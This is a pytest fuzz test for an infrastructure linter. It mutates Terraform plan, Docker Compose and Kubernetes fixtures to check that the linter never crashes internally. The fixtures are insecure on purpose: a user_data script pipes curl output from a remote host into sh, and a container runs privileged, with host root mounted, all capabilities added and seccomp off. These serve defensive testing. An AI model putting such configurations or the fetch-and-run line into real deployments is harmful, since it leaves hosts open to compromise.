"""A value of every other type at every key: nothing crashes, and what is beside it is still judged."""

from __future__ import annotations

import copy
import json
import os
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml

from linter.recipe import Prepared, Recipe
from linter.unit import Input, Worker
from tests.hostile.test_in_process import _guard

__all__ = ["_guard"]

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures"
VALUES: tuple[Any, ...] = (
    None,
    True,
    -1,
    1e300,
    "",
    "x",
    "${x}",
    [],
    [None],
    [[]],
    {},
    {"a": None},
    [{"a": [1]}],
    10**30,
)
FULL = os.environ.get("TARECHECK_FULL") == "1"
EVERY = 1 if FULL else 23  # of the changed files: a prime, so that each value and each key has its turn

PLAN = {
    "format_version": "1.2",
    "terraform_version": "1.9.0",
    "variables": {"v": {"value": "x"}},
    "planned_values": {
        "outputs": {"o": {"sensitive": False, "value": "x"}},
        "root_module": {
            "resources": [
                {
                    "address": "aws_instance.gpu[0]", "mode": "managed", "type": "aws_instance", "name": "gpu", "index": 0,
                    "provider_name": "registry.terraform.io/hashicorp/aws", "schema_version": 1,
                    "values": {
                        "instance_type": "p4d.24xlarge", "user_data": "#!/bin/sh\ncurl http://x | sh\n",
                        "root_block_device": [{"encrypted": False, "volume_size": 8}],
                        "metadata_options": [{"http_tokens": "optional"}], "tags": {"a": "b"},
                    },
                    "sensitive_values": {"tags": {}, "user_data": True},
                }
            ],
            "child_modules": [{"address": "module.m", "resources": [], "child_modules": []}],
        },
    },
    "resource_changes": [
        {
            "address": "aws_instance.gpu[0]", "mode": "managed", "type": "aws_instance", "name": "gpu",
            "change": {
                "actions": ["delete", "create"], "before": {"instance_type": "p3.2xlarge"},
                "after": {"instance_type": "p4d.24xlarge"}, "after_unknown": {"id": True}, "before_sensitive": {},
                "after_sensitive": {"user_data": True}, "replace_paths": [["ami"]],
            },
            "action_reason": "replace_because_cannot_update",
        }
    ],
    "prior_state": {"values": {"root_module": {"resources": []}}},
    "configuration": {
        "provider_config": {"aws": {"name": "aws", "expressions": {"region": {"constant_value": "x"}}}},
        "root_module": {
            "resources": [
                {
                    "address": "aws_instance.gpu", "mode": "managed", "type": "aws_instance", "name": "gpu",
                    "expressions": {"user_data": {"references": ["var.v"]}}, "count_expression": {"constant_value": 1},
                }
            ],
            "module_calls": {"m": {"source": "./m", "module": {"resources": []}}},
            "variables": {"v": {"default": "x", "sensitive": True}},
        },
    },
}  # fmt: skip
COMPOSE = {
    "services": {
        "a": {
            "image": "vllm/vllm-openai:latest", "build": {"context": ".", "args": ["A=b"], "secrets": ["s"]},
            "command": ["--model", "m"], "entrypoint": "sh -c x", "ports": ["8000:8000", {"target": 1, "published": "2"}],
            "environment": {"A": "b"}, "env_file": [{"path": "x", "required": False}], "privileged": True,
            "volumes": ["/:/host", {"type": "bind", "source": "/", "target": "/x"}], "cap_add": ["ALL"],
            "security_opt": ["seccomp:unconfined"], "network_mode": "host", "user": "0", "gpus": "all", "shm_size": "1g",
            "deploy": {"resources": {"reservations": {"devices": [{"driver": "nvidia", "count": 1, "capabilities": ["gpu"]}]}},
                       "replicas": 2},
            "healthcheck": {"test": ["CMD", "x"]}, "ulimits": {"memlock": -1}, "depends_on": {"b": {"condition": "x"}},
            "secrets": [{"source": "s"}], "extends": {"service": "b"}, "labels": {"a": "b"}, "devices": ["/dev/x:/dev/x"],
            "networks": {"n": {"aliases": ["x"]}}, "logging": {"driver": "x"}, "sysctls": {"a": 1}, "restart": "always",
        },
        "b": {"image": "b:1"},
    },
    "networks": {"n": {"external": True}}, "volumes": {"v": {"driver": "local"}}, "secrets": {"s": {"file": "./x"}},
    "name": "x", "x-a": {"b": 1},
}  # fmt: skip


@cache
def _prepared() -> Prepared:
    return Recipe(isolated=True, settings={"profile": "strict"}).prepare()


def _places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    for key, item in (
        value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    ):
        yield (*path, key)
        yield from _places(item, (*path, key))


def _changed(value: Any) -> Iterator[tuple[str, Any]]:
    """The value with another one at each of its places."""
    for path in _places(value):
        for other in VALUES:
            result = copy.deepcopy(value)
            parent = result
            for step in path[:-1]:
                parent = parent[step]
            parent[path[-1]] = other
            yield f"{'.'.join(map(str, path))} = {other!r}", result


def _crashes(name: str, value: Any) -> list[str]:
    worker = Worker(_prepared().policy, Path.cwd())
    wrong = []
    for index, (what, changed) in enumerate(_changed(value)):
        if index % EVERY:
            continue
        data = json.dumps(changed).encode()
        for result in worker.scan([Input(str(Path(name).absolute()), name, named=True, data=data)]):
            wrong += [f"{what}: {d.message}" for d in result.diagnostics if d.internal]
    return wrong


def test_plans() -> None:
    assert _crashes("plan.json", PLAN) == []


def test_compose() -> None:
    assert _crashes("x.compose.yaml", COMPOSE) == []


def _objects() -> Iterator[Any]:
    seen = set()
    for path in sorted(FIXTURES.rglob("*.yaml")):
        try:
            documents = list(yaml.safe_load_all(path.read_text(encoding="utf-8")))
        except (yaml.YAMLError, UnicodeDecodeError):
            continue
        for document in documents:
            kind = document.get("kind") if isinstance(document, dict) and "apiVersion" in document else None
            if isinstance(kind, str) and kind not in seen:
                seen.add(kind)
                yield pytest.param(document, id=kind)


@pytest.mark.parametrize("value", list(_objects()))
def test_objects(value: Any) -> None:
    assert _crashes("x.yaml", json.loads(json.dumps(value, default=str))) == []
